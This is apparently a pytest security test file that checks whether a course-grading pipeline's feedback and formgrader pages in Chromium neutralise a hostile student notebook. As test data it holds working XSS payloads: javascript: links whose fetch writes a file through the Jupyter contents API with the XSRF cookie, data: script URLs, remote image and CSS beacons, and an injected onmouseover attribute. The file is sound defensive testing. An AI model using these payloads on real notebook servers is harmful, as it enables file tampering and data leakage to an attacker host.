"""A hostile submission, graded by the real pipeline, opened in a real Chromium: its feedback page and
its formgrader page (the instructor's Jupyter server at the course root, started as ``make lab``
configures it) run nothing the student wrote, fetch nothing from anywhere, and show every broken
attachment as text.

The student's "remote host" is a listener on a free local port: a fetch, an image, a style beacon or a
script's request would reach it. Every link of the student's notebook on both pages is clicked.
Screenshots go to ``artifacts/browser/<test name>/``.
"""
import base64
import http.server
import threading
import urllib.request

import nbformat
import pytest

from nndl.course import nbgrader_api
from nndl.simulate import filled_notebook
from support import TOKEN, browser_tab, chromium, course_copy, grade_class, jupyter_server

pytestmark = [pytest.mark.browser, pytest.mark.security]

A = "w2_numpy_basics"
WAIT = 60_000
# what a click on the links below would do: write a file into the course root through the server's API,
# and tell the "remote host" (REMOTE, spelt so that no markdown renderer makes a plain link of it) that it ran
WRITE = ("fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'Content-Type':'application/json',"
         "'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},body:JSON.stringify({type:'file',"
         "format:'text',content:'pwned'})});fetch('REMOTE/clicked'.split('@').join(':'))")
LINKS = f"""Links in several spellings:
[inline](javascript:{WRITE}), [entities](jav&#x61;script:{WRITE}), [reference][ref], <javascript:{WRITE}>,
<a href="javascript:{WRITE}">raw html</a>, [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==),
[server path](/api/contents) and $\\sigma(x) < 1$ in maths.

[ref]: javascript:{WRITE}
"""
REMOTE_IMAGES = """Images: <img src="REMOTE/raw-img.png"> and ![markdown](REMOTE/markdown-img.png) and
![ref][pic] and <p style="background:url(REMOTE/style-beacon.png)">a styled paragraph</p>
<div style="background-image: url('REMOTE/style-beacon-2.png')">another</div>

[pic]: REMOTE/reference-img.png
"""
OUTPUT_HTML = ("from IPython.display import HTML, display\n"
               f"display(HTML('''<a href=\"javascript:{WRITE}\">output link</a> "
               "<img src=\"REMOTE/output-img.png\"> <svg><image href=\"REMOTE/svg-img.png\"/></svg>'''))")


class Remote(threading.Thread):
    """An HTTP server on a free loopback port, standing for any host on the internet: records each path asked."""

    def __init__(self):
        super().__init__(daemon=True)
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_PUT = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def run(self):
        self.server.serve_forever()


def listing(root):
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if ".ipynb_checkpoints" not in p.parts)


@pytest.fixture(scope="module")
def remote():
    server = Remote()
    server.start()
    yield server
    server.server.shutdown()


@pytest.fixture(scope="module")
def course(tmp_path_factory, remote):
    """A class of one hostile student (mallory), graded by the real pipeline, with its feedback page."""
    root = course_copy(tmp_path_factory.mktemp("course"), [A])
    nb = filled_notebook(root, A)
    text = base64.b64encode(b"not an image").decode()
    nb.cells[1:1] = [
        nbformat.v4.new_markdown_cell(LINKS.replace("REMOTE", remote.url.replace(":", "@"))),
        nbformat.v4.new_markdown_cell(REMOTE_IMAGES.replace("REMOTE", remote.url)),
        nbformat.v4.new_markdown_cell("A text file: ![notes](attachment:notes.txt)",
                                      attachments={"notes.txt": {"text/plain": text}}),
        nbformat.v4.new_markdown_cell("An empty one: ![empty](attachment:empty.png) and a dangling one: "
                                      "![gone](attachment:gone.png)", attachments={"empty.png": {}}),
        nbformat.v4.new_code_cell(OUTPUT_HTML.replace("REMOTE", remote.url)),
    ]
    for cell in nb.cells[1:3]:  # cell tags reach the page's HTML too
        cell.metadata["tags"] = ['x" onmouseover="window.nndlRan=1" style="background:url(' + remote.url + '/tag.png)']
    grade_class(root, A, {"mallory": nb})
    made = nbgrader_api(root).generate_feedback(A, "mallory", force=True)
    assert made["success"], made["log"][-3000:]
    return root


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture
def page(browser, request):
    """A fresh tab recording every request it makes (``page.requests``: (method, url)); ``page.shot(name)``."""
    with browser_tab(browser, request.node.name, WAIT) as tab:
        tab.requests, tab.blocked = [], []
        tab.context.on("request", lambda r: tab.requests.append((r.method, r.url)))
        tab.on("console", lambda m: tab.blocked.append(m.text) if "script-src" in m.text else None)
        yield tab


def click_every_link(page, url):
    """Click each link of the student's notebook on the page at ``url`` (coming back if one leaves it)."""
    links = page.locator("#notebook-container a")
    clicked = 0
    for i in range(links.count()):
        link = links.nth(i)
        if not link.is_visible():
            continue
        link.click(no_wait_after=True)
        clicked += 1
        page.wait_for_timeout(50)
        if page.url.split("#")[0] != url.split("#")[0]:
            page.goto(url)
    page.wait_for_timeout(1000)  # for anything a click started
    return clicked


def hostile_links(page):
    return page.evaluate("""[...document.querySelectorAll('#notebook-container a[href]')].map(a => a.getAttribute('href'))
                            .filter(h => !/^(https?:|mailto:|#)/i.test(h.trim()))""")


def assert_shown_safely(page, remote, root, before):
    # first what the clicks and the page did: nothing reached the "remote host" or the server's file API
    assert remote.asked == []
    assert [r for r in page.requests if r[1].startswith(remote.url)] == []
    assert [r for r in page.requests if r[0] in ("PUT", "POST") and "/api/contents" in r[1]] == []
    assert listing(root) == before and not (root / "pwned.txt").exists()
    # then what the page shows
    text = page.locator("#notebook-container").first.inner_text()
    assert "[attachment notes.txt: missing or not an image, not shown]" in text
    assert "[attachment empty.png: missing or not an image, not shown]" in text
    assert "[attachment gone.png: missing or not an image, not shown]" in text
    assert "[remote image removed]" in text and "a styled paragraph" in text and "output link" in text
    assert hostile_links(page) == []  # the student's javascript:, data: and server links are plain text
    assert page.locator("#notebook-container [style*=url]").count() == 0


def injected_code_runs(page):
    """Whether a script that got into the page despite the sanitiser would run: an inline handler and a
    ``javascript:`` link added to the page now, each setting a flag (the page's policy must stop both)."""
    page.evaluate("""() => {
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.nndlRan = (window.nndlRan || 0) + 1');
        img.src = 'data:,broken';
        document.body.append(img);
        const a = document.createElement('a');
        a.href = 'javascript:window.nndlRan = (window.nndlRan || 0) + 1';
        a.textContent = 'injected';
        document.body.append(a);
        a.click();
    }""")
    page.wait_for_timeout(500)
    return page.evaluate("window.nndlRan || 0") > 0


def test_the_feedback_page_runs_and_fetches_nothing_a_student_wrote(course, remote, page):
    before = listing(course)
    url = (course / "feedback" / "mallory" / A / f"{A}.html").as_uri()
    page.goto(url)
    page.locator("mjx-container svg").first.wait_for()  # the page's own scripts (MathJax) still run
    assert page.blocked == []
    page.shot("feedback")
    assert click_every_link(page, url) > 10
    page.shot("after-clicks")
    assert_shown_safely(page, remote, course, before)
    assert [u for _, u in page.requests if not u.startswith(("file:", "data:"))] == []
    assert not injected_code_runs(page)


def test_the_formgrader_page_runs_and_fetches_nothing_a_student_wrote(course, remote, page):
    with jupyter_server(course) as server:
        before = listing(course)
        url = f"{server}/formgrader/submissions/{submission_id(course)}/?token={TOKEN}"
        answer = page.goto(url)
        assert answer.status == 200
        page.locator("#notebook-container").first.wait_for()
        page.wait_for_load_state("load")
        assert page.locator("[data-link]").count() == 0  # nbgrader's own inline script ran (it removes these)
        assert page.locator(".score").count() > 0 and page.blocked == []
        page.shot("formgrader")
        assert click_every_link(page, url) > 10
        page.shot("after-clicks")
        assert_shown_safely(page, remote, course, before)
        assert not injected_code_runs(page)


def test_a_submission_with_broken_attachments_opens_in_the_formgrader(course):
    """Not an HTTP 500: the page, with the broken attachments as notes."""
    with jupyter_server(course) as server:
        request = urllib.request.Request(f"{server}/formgrader/submissions/{submission_id(course)}/",
                                         headers={"Authorization": f"token {TOKEN}"})
        with urllib.request.urlopen(request, timeout=120) as answer:
            assert answer.status == 200
            assert "gone.png: missing or not an image" in answer.read().decode()


def submission_id(course):
    from nbgrader.api import Gradebook

    with Gradebook("sqlite:///" + str(course / "gradebook.db")) as gb:
        return gb.find_submission_notebook(A, A, "mallory").id
